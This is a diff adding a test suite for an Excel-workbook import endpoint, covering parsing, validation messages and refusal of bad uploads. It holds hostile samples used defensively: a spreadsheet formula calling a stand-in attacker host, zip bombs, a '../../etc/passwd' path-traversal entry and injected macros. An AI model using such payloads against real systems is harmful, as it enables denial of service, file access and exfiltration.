@@ -1,0 +1,225 @@
+import { ENDPOINTS, type FrameworkPreview } from '@impact-call/contracts';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { CFB, read, utils, write, type WorkSheet } from 'xlsx';
+import { anApplicant } from '../../../test/fixtures.ts';
+import { packedArchive, type HostileEntry } from '../../../test/hostile-archives.ts';
+import { compoundFile, docx, pdf, plainZip, png, text } from '../../../test/sample-files.ts';
+import { ANNA, GIULIA, startTestApi, type TestApi } from '../../../test/test-api.ts';
+import { FRAMEWORK_COLUMNS } from './columns.ts';
+
+let api: TestApi;
+let token: string;
+beforeAll(async () => {
+  api = await startTestApi();
+  token = await api.tokenOf(ANNA);
+});
+afterAll(() => api.stop());
+
+const BOUNDARY = 'excel-boundary';
+
+async function send(file: Buffer, language = 'en', sender = token, field = 'File') {
+  const head = `--${BOUNDARY}\r\nContent-Disposition: form-data; name="${field}"; filename="f.xlsx"\r\nContent-Type: application/octet-stream\r\n\r\n`;
+  const answer = await api.inject({
+    method: 'POST',
+    url: ENDPOINTS.ReadExcel.path,
+    headers: { authorization: `Bearer ${sender}`, 'accept-language': language, 'content-type': `multipart/form-data; boundary=${BOUNDARY}` },
+    payload: Buffer.concat([Buffer.from(head), file, Buffer.from(`\r\n--${BOUNDARY}--\r\n`)]),
+  });
+  const body: FrameworkPreview & { code?: string; errors?: { code: string }[] } = answer.json();
+  return { status: answer.statusCode, body, refusal: [answer.statusCode, body.errors?.[0]?.code ?? body.code] };
+}
+
+const HEADERS = Object.values(FRAMEWORK_COLUMNS);
+const FULL = ['More jobs', 'After training', 8, 'Contracts', 'Of a year', 'Cost of unemployment', 9800.5, 'Statistics', 'https://www.istat.it', 0.25, '30 %', 0, '0,1'];
+const STAKEHOLDERS = [['Name', 'Description'], ['Participants', 'Who take part'], ['Families']];
+
+type Rows = unknown[][];
+function book(sheets: Record<string, Rows | WorkSheet>, bookType: 'xlsx' | 'biff8' = 'xlsx'): Buffer {
+  const workbook = utils.book_new();
+  for (const [name, rows] of Object.entries(sheets)) utils.book_append_sheet(workbook, Array.isArray(rows) ? utils.aoa_to_sheet(rows) : rows, name);
+  return write(workbook, { type: 'buffer', bookType, compression: true }) as Buffer;
+}
+const frameworkBook = (rows: Rows, bookType: 'xlsx' | 'biff8' = 'xlsx') => book({ 'Impact framework': [HEADERS, ...rows], Stakeholder: STAKEHOLDERS }, bookType);
+const problemsOf = async (file: Buffer, language = 'en') => (await send(file, language)).body.problems.map(({ sheet, row, column, code }) => [sheet, row, column, code]);
+const at = (row: number, column: string, code: string) => ['Impact framework', row, column, code];
+
+describe('a framework file', () => {
+  it.each(['xlsx', 'biff8'] as const)('is read whole from %s, and can be created as it is', async (type) => {
+    const { status, body } = await send(frameworkBook([FULL], type));
+    expect(status).toBe(200);
+    expect(body).toEqual({
+      problems: [],
+      stakeholders: [{ name: 'Participants', description: 'Who take part' }, { name: 'Families', description: '' }],
+      outcomes: [
+        {
+          name: 'More jobs',
+          description: 'After training',
+          sdg: 8,
+          indicators: [
+            {
+              name: 'Contracts',
+              description: 'Of a year',
+              filters: { deadweight: 0.25, attribution: 0.3, displacement: 0, dropOff: 0.1 },
+              proxies: [{ name: 'Cost of unemployment', defaultValue: 9800.5, sourceName: 'Statistics', sourceUrl: 'https://www.istat.it' }],
+            },
+          ],
+        },
+      ],
+    });
+    const { outcomes, stakeholders } = body;
+    expect((await api.send(ENDPOINTS.AddImpactFrameworkSet, { body: { name: 'From Excel', description: 'All of it', outcomes, stakeholders } }, { token })).status).toBe(200);
+  });
+
+  it('groups outcomes and indicators by name, whatever their case', async () => {
+    const row = (outcome: string, sdg: unknown, indicator: string, proxy: string, value: unknown) => [outcome, '', sdg, indicator, '', proxy, value];
+    const { body } = await send(frameworkBook([row('A', 4, 'i', 'p', 1), row('a ', null, 'I', 'q', 2), row('A', 4, 'j', 'p', 3), row('B', 'SDG 5', 'i', 'p', 4), row('A', 4, 'i', 'p', 1)]));
+    expect(body.problems).toEqual([]);
+    expect(body.outcomes.map(({ name, sdg, indicators }) => [name, sdg, indicators.map((indicator) => [indicator.name, indicator.proxies.length])])).toEqual([
+      ['A', 4, [['i', 2], ['j', 1]]],
+      ['B', 5, [['i', 1]]],
+    ]);
+  });
+
+  it('matches headers and sheets whatever their case, spacing and order, below empty rows, and leaves unknown columns alone', async () => {
+    const rows = [[], ['PROXY VALUE', 'outcomeName', 'Notes', ' sdg ', 'Indicator  name', 'proxy_name'], [5, 'A', 'x', 1, 'i', 'p']];
+    const { body } = await send(book({ ' IMPACT FRAMEWORK': rows, stakeholder: [['NAME'], ['S']], Other: [['x']] }));
+    expect(body.problems).toEqual([]);
+    expect(body.outcomes[0]).toMatchObject({ name: 'A', sdg: 1, indicators: [{ proxies: [{ name: 'p', defaultValue: 5 }] }] });
+  });
+
+  it('reads a proxy’s value as a number, else null, and says when it is not sure', async () => {
+    const values: [unknown, number | null, string?][] = [
+      [12.5, 12.5], ['12.5', 12.5], ['12,5', 12.5], ['1.234,56', 1234.56], ['1,234.56', 1234.56], ['€ 1 200', 1200], ['', null],
+      ['about 5', null, 'number-unreadable'], ['1.200', null, 'number-ambiguous'], [-1, null, 'number-out-of-range'], ['=1+1', null, 'number-unreadable'],
+    ];
+    const rows = values.map(([value], index) => ['A', '', 4, `i${index}`, '', 'p', value]);
+    const { body } = await send(frameworkBook(rows));
+    expect(body.outcomes[0]?.indicators.map(({ proxies }) => proxies[0]?.defaultValue)).toEqual(values.map(([, number]) => number));
+    expect(body.problems.map(({ row, code }) => [row, code])).toEqual(values.flatMap(([, , code], index) => (code ? [[index + 2, code]] : [])));
+  });
+
+  it('takes the stored value of a formula, computes nothing, and names errors', async () => {
+    const sheet = utils.aoa_to_sheet([HEADERS, FULL, ['B', '', 3, 'i', '', 'p', 1]]);
+    sheet['G2'] = { t: 'n', v: 42, f: 'WEBSERVICE("http://attacker.example")' };
+    sheet['D3'] = { t: 'e', v: 23, w: '#REF!' };
+    const { body } = await send(book({ 'Impact framework': sheet, Stakeholder: STAKEHOLDERS }));
+    expect(body.outcomes[0]?.indicators[0]?.proxies[0]?.defaultValue).toBe(42);
+    expect(JSON.stringify(body)).not.toContain('attacker');
+    expect(body.problems.map(({ row, column, code }) => [row, column, code])).toEqual([[3, 'Indicator Name', 'cell-error']]);
+  });
+
+  it('names each row’s problem in the reader’s language', async () => {
+    const rows = [
+      ['', '', 4, 'i', '', 'p', 1],
+      ['A', '', 18, 'i', '', 'p', 1],
+      ['A', '', 5, '', '', 'p', 1],
+      ['B', '', '', 'i', '', '', 1],
+      ['C', '', 6, 'i', '', 'p', 1, '', '', 25, 'half', '', ''],
+      ['C', '', 6, 'i', '', 'q', 1, '', '', '', '', 0.1, ''],
+      ['C', '', 6, 'i', '', 'r', 1, '', '', '', '', 0.2, ''],
+      ['x'.repeat(501), '', 6, 'i', '', 'r', 1],
+    ];
+    expect(await problemsOf(frameworkBook(rows))).toEqual([
+      at(2, 'Outcome Name', 'required'),
+      at(3, 'Sdg', 'sdg-unknown'),
+      at(4, 'Sdg', 'sdg-differs'),
+      at(4, 'Indicator Name', 'required'),
+      at(5, 'Sdg', 'required'),
+      at(5, 'Proxy Name', 'required'),
+      at(6, 'Deadweight', 'share-unreadable'),
+      at(6, 'Attribution', 'share-unreadable'),
+      at(8, 'Displacement', 'filter-differs'),
+      at(9, 'Outcome Name', 'text-too-long'),
+      ['Impact framework', null, null, 'proxies-empty'],
+    ]);
+    const messages = await Promise.all(['it', 'en', 'fr'].map(async (language) => (await send(frameworkBook([]), language)).body.problems[0]?.message));
+    expect(messages).toEqual([expect.stringContaining('Outcomes'), 'Check the Outcomes list is not empty within the Excel', expect.stringContaining('Outcomes')]);
+    expect(new Set(messages).size).toBe(3);
+  });
+
+  it('says which sheets, columns and lists are missing', async () => {
+    expect(await problemsOf(book({ Sheet1: [['x']] }))).toEqual([
+      ['Impact framework', null, null, 'sheet-missing'],
+      ['Stakeholder', null, null, 'sheet-missing'],
+      ['Impact framework', null, null, 'outcomes-empty'],
+      ['Impact framework', null, null, 'indicators-empty'],
+      ['Impact framework', null, null, 'proxies-empty'],
+      ['Stakeholder', null, null, 'stakeholders-empty'],
+    ]);
+    const partial = await problemsOf(book({ 'Impact framework': [['Outcome Name', 'Sdg', 'Proxy Name', 'Proxy Value']], Stakeholder: [['Name'], ['S'], ['s'], ['']] }));
+    expect(partial.slice(0, 2)).toEqual([['Impact framework', null, 'Indicator Name', 'column-missing'], ['Stakeholder', 3, 'Name', 'stakeholder-twice']]);
+  });
+
+  it('stops at 5,000 rows', async () => {
+    const rows = Array.from({ length: 5100 }, () => ['A', '', 4, 'i', '', 'p', 1]);
+    expect(await problemsOf(frameworkBook(rows))).toEqual([['Impact framework', null, null, 'too-many-rows']]);
+  });
+});
+
+describe('the template', () => {
+  it('is a file that the importer understands, with a guide in the reader’s language', async () => {
+    const answer = await api.inject({ method: 'GET', url: ENDPOINTS.GetExcelTemplate.path, headers: { authorization: `Bearer ${token}`, 'accept-language': 'it' } });
+    expect(answer.headers['content-disposition']).toContain('impact-framework.xlsx');
+    const workbook = read(answer.rawPayload);
+    expect(workbook.SheetNames).toEqual(['Impact framework', 'Stakeholder', 'Guida']);
+    expect(await problemsOf(answer.rawPayload)).toEqual([
+      ['Impact framework', null, null, 'outcomes-empty'],
+      ['Impact framework', null, null, 'indicators-empty'],
+      ['Impact framework', null, null, 'proxies-empty'],
+      ['Stakeholder', null, null, 'stakeholders-empty'],
+    ]);
+    const [headers, example] = (utils.sheet_to_json(workbook.Sheets['Guida'] as WorkSheet, { header: 1 }) as Rows).slice(-2);
+    expect((await send(book({ 'Impact framework': [headers ?? [], example ?? []], Stakeholder: STAKEHOLDERS }))).body.problems).toEqual([]);
+  });
+});
+
+describe('what is no framework file', () => {
+  const parts = (file: Buffer): HostileEntry[] => {
+    const archive = CFB.read(file, { type: 'buffer' });
+    return archive.FullPaths.flatMap((path: string, index: number) => {
+      const content = archive.FileIndex[index]?.content;
+      return content && content.length > 0 ? [{ name: path.replace(/^Root Entry\//, ''), data: Buffer.from(content as Uint8Array) }] : [];
+    });
+  };
+  const good = () => parts(frameworkBook([FULL]));
+  const ZEROS = Buffer.alloc(40_000_000);
+
+  it('is packed and unpacked by this test as well: the archives below are good but for one thing', async () => {
+    expect((await send(packedArchive(good()))).body.problems).toEqual([]);
+  });
+
+  it.each([
+    ['a bomb that says so', () => packedArchive([...good(), { name: 'xl/worksheets/sheet9.xml', data: ZEROS }]), [422, 'too-complex']],
+    ['a bomb in a part that nobody reads', () => packedArchive([...good(), { name: 'xl/media/image1.png', data: ZEROS }]), [422, 'too-complex']],
+    ['a bomb that says that it is small', () => packedArchive([...good(), { name: 'xl/worksheets/sheet9.xml', data: ZEROS, statedSize: 100 }]), [415, 'file-type-not-accepted']],
+    ['one that says that it is larger', () => packedArchive(good().map((part) => ({ ...part, statedSize: part.data.length + 1 }))), [415, 'file-type-not-accepted']],
+    ['a crowd of parts', () => packedArchive(Array.from({ length: 2000 }, (_, index) => ({ name: `xl/${index}.xml`, data: Buffer.alloc(0) }))), [422, 'too-complex']],
+    ['a claim of more parts than there are', () => packedArchive(good(), 60_000), [422, 'too-complex']],
+    ['names that climb out', () => packedArchive([...good(), { name: '../../etc/passwd', data: Buffer.from('x') }]), [415, 'file-type-not-accepted']],
+    ['macros in .xlsx', () => packedArchive([...good(), { name: 'xl/vbaProject.bin', data: Buffer.from('x') }]), [415, 'file-type-not-accepted']],
+    ['a file cut short', () => frameworkBook([FULL]).subarray(0, 3000), [415, 'file-type-not-accepted']],
+    ['broken XML', () => packedArchive(good().map((part) => (part.name === 'xl/workbook.xml' ? { ...part, data: Buffer.from('<<<') } : part))), [415, 'file-type-not-accepted']],
+    ['a Word file', docx, [415, 'file-type-not-accepted']],
+    ['an archive', plainZip, [415, 'file-type-not-accepted']],
+    ['a PDF', pdf, [415, 'file-type-not-accepted']],
+    ['a picture', png, [415, 'file-type-not-accepted']],
+    ['text', text, [415, 'file-type-not-accepted']],
+    ['nothing', () => Buffer.alloc(0), [415, 'file-type-not-accepted']],
+    ['a compound file that only looks like a workbook', () => compoundFile('Workbook'), [415, 'file-type-not-accepted']],
+    ['an old Word file', () => compoundFile('WordDocument'), [415, 'file-type-not-accepted']],
+    ['more than 3 MB', () => Buffer.alloc(3 * 1024 * 1024 + 1), [413, 'file-too-large']],
+  ])('%s is refused', async (_name, file, refusal) => {
+    expect((await send(file())).refusal).toEqual(refusal);
+  });
+
+  it('is a workbook with macros, an old one too', async () => {
+    const workbook = CFB.read(frameworkBook([FULL], 'biff8'), { type: 'buffer' });
+    CFB.utils.cfb_add(workbook, '/_VBA_PROJECT_CUR/VBA/dir', Buffer.from('x'.repeat(600)));
+    expect((await send(CFB.write(workbook, { type: 'buffer' }) as Buffer)).refusal).toEqual([415, 'file-type-not-accepted']);
+  });
+
+  it('needs a part called File, and an administrator', async () => {
+    expect((await send(frameworkBook([FULL]), 'en', token, 'Other')).status).toBe(400);
+    expect((await send(frameworkBook([FULL]), 'en', (await anApplicant(api, GIULIA)).token)).body.code).toBe('admin-only');
+  });
+});
